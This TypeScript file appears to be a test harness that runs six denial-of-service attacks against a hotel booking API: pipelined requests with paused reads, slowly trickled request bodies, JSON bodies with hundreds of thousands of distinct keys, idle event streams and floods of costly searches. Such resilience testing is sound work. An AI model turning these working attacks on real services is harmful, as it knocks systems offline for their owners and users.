/** The attacks that one client can make on all others, each as one busy program makes it. */
import { setPriority } from 'node:os'
import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'

export const attackNames = [
  'unread answers',
  'trickled bodies',
  'distinct members',
  'idle event streams',
  'large searches',
  'explained searches',
] as const
export type AttackName = (typeof attackNames)[number]

/** The target of an attack, with a key and a token of the attacker's own. */
export type Target = {
  url: string
  apiKey: string
  token: string
  /** A search for very many nights, and one that takes long to explain. */
  searches: { large: object; explained: object }
}

export type AttackCounts = { requests: number; byStatus: Record<string, number> }

/** Resolves when the attack is at full strength; it continues until its process ends. */
type Attack = (target: Target, counts: AttackCounts) => Promise<void>

export const attacks: Readonly<Record<AttackName, Attack>> = {
  'unread answers': unreadAnswers,
  'trickled bodies': trickledBodies,
  'distinct members': distinctMembers,
  'idle event streams': idleEventStreams,
  'large searches': (target, counts) => searches(16, target.searches.large, target, counts),
  'explained searches': (target, counts) => searches(4, target.searches.explained, target, counts),
}

/** An attacker that is cut off reconnects, but reconnecting without a pause would be a packet flood. */
const againAfterMs = 1_000

async function unreadAnswers({ url }: Target, counts: AttackCounts): Promise<void> {
  const pipelined = 90
  const script = 'GET /docs/reference.js HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(pipelined)
  const begun: Promise<void>[] = []
  for (let count = 0; count < 40; count++) {
    begun.push(
      connected(url, (socket) => {
        socket.pause()
        socket.write(script)
        counts.requests += pipelined
      }),
    )
  }
  await Promise.all(begun)
}

async function trickledBodies({ url }: Target, counts: AttackCounts): Promise<void> {
  const drop = Buffer.alloc(50, ' ')
  const dropEveryMs = 1_000
  const begun: Promise<void>[] = []
  for (let count = 0; count < 2_500; count++) {
    const path = count < 2_200 ? '/console/api/sign-in' : '/v1/push/ari'
    const head = `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 15000\r\n\r\n{`
    // Spread, because all at once would be one burst a second.
    const firstAfterMs = Math.random() * dropEveryMs
    begun.push(
      connected(
        url,
        (socket) => {
          socket.resume()
          socket.write(head)
          counts.requests++
          const dripping = setInterval(() => socket.write(drop), dropEveryMs)
          socket.once('close', () => clearInterval(dripping))
        },
        firstAfterMs,
      ),
    )
  }
  await Promise.all(begun)
}

async function distinctMembers({ url, apiKey }: Target, counts: AttackCounts): Promise<void> {
  const members = (count: number, from = 0): string =>
    Array.from({ length: count }, (_, index) => `"k${(from + index).toString(36)}":1`).join()
  const objects = (count: number, each: number): string =>
    Array.from({ length: count }, (_, index) => `{${members(each, index * each)}}`).join()
  const withKey = { 'x-api-key': apiKey }
  const pushes = [
    `{${members(700_000)}}`,
    `[${objects(7_000, 100)}]`,
    // As many as are parsed and judged.
    `{"hotelId":"H1","ari":[${objects(40, 490)}]}`,
    `[${objects(40, 490)}]`,
  ]
  for (const body of pushes) {
    for (let count = 0; count < 3; count++) {
      const path = body.startsWith('[') ? '/v1/push/hotels' : '/v1/push/ari'
      void inLoop(() => post(`${url}${path}`, body, withKey), counts)
    }
  }
  for (const count of [70_000, 1_500, 99])
    for (let caller = 0; caller < 3; caller++)
      void inLoop(() => post(`${url}/console/api/sign-in`, `{${members(count)}}`), counts)
}

async function idleEventStreams({ url, token }: Target, counts: AttackCounts): Promise<void> {
  const head = `GET /v1/booking/changes HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\naccept: text/event-stream\r\n\r\n`
  const begun: Promise<void>[] = []
  for (let count = 0; count < 300; count++) {
    begun.push(
      connected(url, (socket) => {
        socket.pause()
        socket.write(head)
        counts.requests++
      }),
    )
  }
  await Promise.all(begun)
}

async function searches(
  atOnce: number,
  search: object,
  { url, token }: Target,
  counts: AttackCounts,
): Promise<void> {
  const body = JSON.stringify(search)
  const headers = { authorization: `Bearer ${token}` }
  for (let count = 0; count < atOnce; count++)
    void inLoop(() => post(`${url}/v1/booking/offers`, body, headers), counts)
}

/** A connection that reopens when it is closed; resolves when it is open for the first time. */
function connected(url: string, begin: (socket: Socket) => void, firstAfterMs = 0): Promise<void> {
  const { hostname, port } = new URL(url)
  return new Promise((isOpen) => {
    const open = (): void => {
      const socket = connect({ host: hostname, port: Number(port) })
      socket.once('connect', () => {
        begin(socket)
        isOpen()
      })
      socket.on('error', () => {})
      socket.once('close', () => setTimeout(open, againAfterMs))
    }
    setTimeout(open, firstAfterMs)
  })
}

/** Sends one after another, forever. */
async function inLoop(send: () => Promise<string>, counts: AttackCounts): Promise<void> {
  for (;;) {
    counts.requests++
    const status = await send()
    counts.byStatus[status] = (counts.byStatus[status] ?? 0) + 1
    if (status !== '200' && !status.startsWith('4')) await wait(againAfterMs)
  }
}

const agent = new Agent({ keepAlive: true })

/** The status, or the reason for its absence; the answer is read and discarded. */
function post(url: string, body: string, headers: Readonly<Record<string, string>> = {}): Promise<string> {
  return new Promise((settle) => {
    const sent = request(url, {
      agent,
      method: 'POST',
      headers: { 'content-type': 'application/json', 'content-length': body.length, ...headers },
    })
    sent.on('error', (error: Error & { code?: string }) => settle(error.code ?? error.message))
    sent.once('response', (response) => {
      response.resume()
      response.on('error', () => {})
      response.once('close', () => settle(String(response.statusCode)))
    })
    sent.end(body)
  })
}

/** One attack in a process of its own, until its input ends; then it prints what it sent. */
if (import.meta.main) {
  const [name, target] = JSON.parse(process.argv[2] ?? '')
  const known = attackNames.find((one) => one === name)
  if (known === undefined) throw new Error(`There is no attack ${name}`)

  // A real attacker has its own machine: here it must not take CPU from the service under attack.
  setPriority(10)
  const counts: AttackCounts = { requests: 0, byStatus: {} }
  await attacks[known](target, counts)
  process.stdout.write('begun\n')
  process.stdin
    .resume()
    .once('end', () => process.stdout.write(JSON.stringify(counts), () => process.exit(0)))
}
